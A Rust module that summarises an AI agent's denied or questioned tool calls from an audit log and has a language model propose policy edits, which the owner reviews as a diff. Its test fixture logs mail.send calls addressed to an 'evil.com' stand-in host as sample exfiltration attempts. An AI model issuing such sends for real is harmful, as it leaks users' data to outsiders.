//! `ironvmm policy refine`: learn from real edge cases. The audit log's asks and
//! denials, and the rules the owner taught by answering asks, go to the model, which
//! proposes edits to the English. The owner sees them as a unified diff and accepts or
//! rejects them; accepted English is then compiled like any other.
//!
//! The audit log's arguments were written by the agent, which is untrusted: they are
//! summarised with hard bounds, shown as data, and nothing changes without the
//! owner's yes.

use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};
use serde_json::Value;

use crate::ask::{ask_json, StepError};
use crate::llm::{Completer, Message};
use crate::{prompts, sentences};

const MAX_GROUPS: usize = 50;
const MAX_EXAMPLES: usize = 3;
const MAX_ARGS_CHARS: usize = 300;
const MAX_LEARNED_CHARS: usize = 20_000;
const MAX_CONSTITUTION: usize = 64 * 1024;

/// Calls that ended the same way for the same reason.
#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct Case {
    pub tool: String,
    pub decision: String,
    pub rule: Option<u64>,
    pub decided_by: String,
    pub reason: String,
    pub count: u64,
    pub examples: Vec<String>,
}

#[derive(Debug, Clone, Default, Serialize, PartialEq, Eq)]
pub struct AuditSummary {
    pub cases: Vec<Case>,
    pub learned_records: Vec<String>,
    pub lines: u64,
    pub unreadable_lines: u64,
    pub dropped_groups: u64,
}

fn clip(s: &str, n: usize) -> String {
    let mut t: String = s.chars().take(n).collect();
    if t.len() < s.len() {
        t.push('…');
    }
    t
}

/// Reads an audit log (docs/audit.md "Records"): `decision` records whose
/// decision is ask or deny, grouped; `learn` records kept as evidence.
pub fn summarize(audit: &str) -> AuditSummary {
    let mut groups: BTreeMap<(String, String, Option<u64>, String, String), Case> = BTreeMap::new();
    let mut s = AuditSummary::default();
    for line in audit.lines() {
        if line.trim().is_empty() {
            continue;
        }
        s.lines += 1;
        let Ok(v) = serde_json::from_str::<Value>(line) else {
            s.unreadable_lines += 1;
            continue;
        };
        let field = |k: &str| v.get(k).and_then(Value::as_str).unwrap_or("").to_string();
        match v.get("kind").and_then(Value::as_str) {
            Some("decision") => {
                let decision = field("decision");
                if decision != "ask" && decision != "deny" {
                    continue;
                }
                let key = (
                    clip(&field("tool"), 100),
                    decision,
                    v.get("rule").and_then(Value::as_u64),
                    clip(&field("decided_by"), 40),
                    clip(&field("reason"), 200),
                );
                if !groups.contains_key(&key) && groups.len() >= MAX_GROUPS {
                    s.dropped_groups += 1;
                    continue;
                }
                let c = groups.entry(key.clone()).or_insert_with(|| Case {
                    tool: key.0.clone(),
                    decision: key.1.clone(),
                    rule: key.2,
                    decided_by: key.3.clone(),
                    reason: key.4.clone(),
                    count: 0,
                    examples: vec![],
                });
                c.count += 1;
                if c.examples.len() < MAX_EXAMPLES {
                    let args = v.get("args").map(Value::to_string).unwrap_or_default();
                    c.examples.push(clip(&args, MAX_ARGS_CHARS));
                }
            }
            Some("learn") if s.learned_records.len() < MAX_GROUPS => {
                s.learned_records.push(clip(line, MAX_ARGS_CHARS * 2));
            }
            _ => {}
        }
    }
    s.cases = groups.into_values().collect();
    s.cases
        .sort_by(|a, b| b.count.cmp(&a.count).then_with(|| a.tool.cmp(&b.tool)));
    s
}

impl AuditSummary {
    pub fn prompt_text(&self) -> String {
        let mut t = String::new();
        if self.cases.is_empty() {
            t.push_str("(no asks or denials)\n");
        }
        for c in &self.cases {
            t.push_str(&format!(
                "- {} × {} {} (decided by {}{}, reason {:?}); example arguments (agent-written data):\n",
                c.count,
                c.decision,
                c.tool,
                c.decided_by,
                c.rule.map(|r| format!(", rule at line {r}")).unwrap_or_default(),
                c.reason
            ));
            for e in &c.examples {
                t.push_str(&format!(
                    "    {}\n",
                    serde_json::to_string(e).unwrap_or_default()
                ));
            }
        }
        if !self.learned_records.is_empty() {
            t.push_str("\nLearn records (the owner's answers that became rules):\n");
            for l in &self.learned_records {
                t.push_str(&format!(
                    "    {}\n",
                    serde_json::to_string(l).unwrap_or_default()
                ));
            }
        }
        t
    }
}

#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq)]
pub struct Change {
    #[serde(default)]
    pub why: String,
    #[serde(default)]
    pub evidence: String,
}

#[derive(Debug, Clone, Deserialize)]
struct RefineAnswer {
    constitution: String,
    #[serde(default)]
    changes: Vec<Change>,
}

#[derive(Debug, Clone, Serialize)]
pub struct Proposal {
    pub revised: String,
    pub changes: Vec<Change>,
    /// Unified diff from the current English to the revised one; empty when unchanged.
    pub diff: String,
}

pub struct RefineInput<'a> {
    pub source_name: &'a str,
    pub constitution: &'a str,
    pub audit: &'a AuditSummary,
    pub learned: Option<&'a str>,
    pub rules: Option<&'a str>,
}

pub fn unified_diff(name: &str, old: &str, new: &str) -> String {
    if old == new {
        return String::new();
    }
    similar::TextDiff::from_lines(old, new)
        .unified_diff()
        .context_radius(3)
        .header(name, &format!("{name} (proposed)"))
        .to_string()
}

pub fn propose(
    llm: &mut dyn Completer,
    input: &RefineInput,
    max_repairs: u32,
) -> Result<Proposal, StepError> {
    let mut user = format!(
        "The owner's English ({}), sentence by sentence:\n\n{}\nThe full text:\n\n{}\n\n\
         Calls the policy denied or asked about:\n\n{}\n",
        input.source_name,
        sentences::numbered(&sentences::split(input.constitution)),
        input.constitution,
        input.audit.prompt_text()
    );
    if let Some(l) = input.learned {
        user.push_str(&format!(
            "\nLearned rules (p.rules.learned: the owner's answers to asks):\n\n{}\n",
            clip(l, MAX_LEARNED_CHARS)
        ));
    }
    if let Some(r) = input.rules {
        user.push_str(&format!(
            "\nThe current p.rules:\n\n{}\n",
            clip(r, MAX_LEARNED_CHARS)
        ));
    }
    let asked = ask_json(
        llm,
        "refine",
        prompts::refine_system(),
        vec![Message::user(user)],
        max_repairs,
        |a: &RefineAnswer| {
            if a.constitution.len() > MAX_CONSTITUTION {
                Err(format!("\"constitution\" is over {MAX_CONSTITUTION} bytes"))
            } else if sentences::split(&a.constitution).is_empty() {
                Err("\"constitution\" states nothing: return the whole revised English".into())
            } else {
                Ok(())
            }
        },
    )?;
    let mut revised = asked.value.constitution;
    if input.constitution.ends_with('\n') && !revised.ends_with('\n') {
        revised.push('\n');
    }
    Ok(Proposal {
        diff: unified_diff(input.source_name, input.constitution, &revised),
        revised,
        changes: asked.value.changes,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn audit_is_grouped_bounded_and_tolerant() {
        let mut log = String::new();
        log.push_str(r#"{"seq":0,"kind":"open"}"#);
        log.push('\n');
        for i in 0..5 {
            log.push_str(&format!(
                r#"{{"seq":{},"kind":"decision","tool":"mail.send","args":{{"to":["x{i}@evil.com"],"body":"{}"}},"decision":"ask","rule":14,"decided_by":"rule","reason":"not a contact"}}"#,
                i + 1,
                "A".repeat(1000)
            ));
            log.push('\n');
        }
        log.push_str(r#"{"seq":6,"kind":"decision","tool":"mail.read","args":{},"decision":"allow","rule":9}"#);
        log.push_str("\nnot json\n");
        log.push_str(r#"{"seq":7,"kind":"learn","rule":"allow mail.send when to == [\"a@b\"]"}"#);
        let s = summarize(&log);
        assert_eq!(s.cases.len(), 1);
        assert_eq!(s.cases[0].count, 5);
        assert_eq!(s.cases[0].examples.len(), MAX_EXAMPLES);
        assert!(s.cases[0].examples[0].chars().count() <= MAX_ARGS_CHARS + 1);
        assert_eq!(s.unreadable_lines, 1);
        assert_eq!(s.learned_records.len(), 1);
        assert!(s.prompt_text().contains("5 × ask mail.send"));
        let many: String = (0..MAX_GROUPS + 5)
            .map(|i| {
                format!("{{\"kind\":\"decision\",\"tool\":\"t.{i}\",\"decision\":\"deny\"}}\n")
            })
            .collect();
        let s = summarize(&many);
        assert_eq!(s.cases.len(), MAX_GROUPS);
        assert_eq!(s.dropped_groups, 5);
    }

    #[test]
    fn diff_is_unified() {
        let d = unified_diff("c.md", "a\nb\n", "a\nc\n");
        assert!(d.contains("--- c.md"), "{d}");
        assert!(d.contains("-b") && d.contains("+c"), "{d}");
        assert_eq!(unified_diff("c.md", "a\n", "a\n"), "");
    }
}
